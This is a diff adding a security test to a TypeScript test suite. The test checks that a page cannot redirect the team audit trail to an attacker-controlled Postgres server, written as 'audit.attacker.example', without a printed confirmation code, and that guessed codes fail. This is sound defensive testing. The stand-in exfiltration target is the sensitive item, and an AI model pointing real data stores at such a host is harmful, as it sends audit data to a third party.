@@ -4,6 +4,7 @@ import { ok } from '../../../shared/result';
 import { startSimulator, type RunningSimulator } from '../../simulator/server';
 import { dispatch } from '../dispatch';
 import { coreFixture, printedCodes, type CoreFixture } from '../testing/core-fixture';
+import { teamStoreDouble } from '../testing/team-store-double';
 import { declined, type ConfirmationRequest, type ProductionConfirmer } from './confirmer';
 
 /**
@@ -260,6 +261,33 @@ describe('the browser host without --allow-production', () => {
       ).toMatchObject({ ok: false, error: { apiCode: 'production_not_allowed' } });
       expect(f.terminal).toEqual([]);
       expect(moneySent()).toEqual([]);
+    } finally {
+      await f.core.close();
+    }
+  });
+});
+
+describe('a page pointing the audit trail at a server it controls', () => {
+  it('gets a code printed for the person, not a connection; its own codes change nothing', async () => {
+    const team = teamStoreDouble();
+    const f = await coreFixture({ team, allowProduction: false });
+    try {
+      const before = (await f.call('team:status')).value;
+      const theirs = 'postgres://collector@audit.attacker.example:5432/loot?sslmode=require';
+      const asked = await f.call('team:configure', { url: theirs, password: 'theirs' });
+      expect(asked).toMatchObject({
+        ok: false,
+        error: { code: 'forbidden', apiCode: 'confirmation_required' },
+      });
+      const code = f.printedCode()!;
+      expect(JSON.stringify(asked)).not.toContain(code);
+      for (const guess of ['000000', '123456', '999999'].filter((g) => g !== code)) {
+        expect(
+          await f.call('team:configure', { url: theirs, password: 'theirs', confirmation: guess }),
+        ).toMatchObject({ ok: false, error: { code: 'forbidden' } });
+      }
+      expect(team.configured).toEqual([]);
+      expect((await f.call('team:status')).value).toEqual(before);
     } finally {
       await f.core.close();
     }
